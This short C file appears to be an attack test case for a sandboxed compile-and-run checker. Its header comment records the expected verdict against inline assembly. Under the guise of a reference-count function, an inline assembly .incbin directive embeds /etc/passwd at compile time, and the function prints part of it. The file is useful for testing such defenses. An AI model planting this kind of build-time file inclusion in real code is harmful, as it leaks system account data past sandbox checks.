/* SPDX-License-Identifier: MIT */
/*
 * Puts another file into the program, to read it there.
 *
 * Verdict: refcount.c:14: __asm__ is inline assembly
 * Box: file not found: /etc/passwd
 * Limits: root:x:0
 */
#include "ouro/refcount.h"

#include <stdio.h>

extern const char stolen[];
__asm__(".section .rodata\n.globl stolen\nstolen: .incbin \"/etc/passwd\"\n.text");

#define ATTACKS_INCREF
void Ou_IncRef(OuObject *OU_UNUSED(op))
{
    fwrite(stolen, 1, 20, stdout);
}
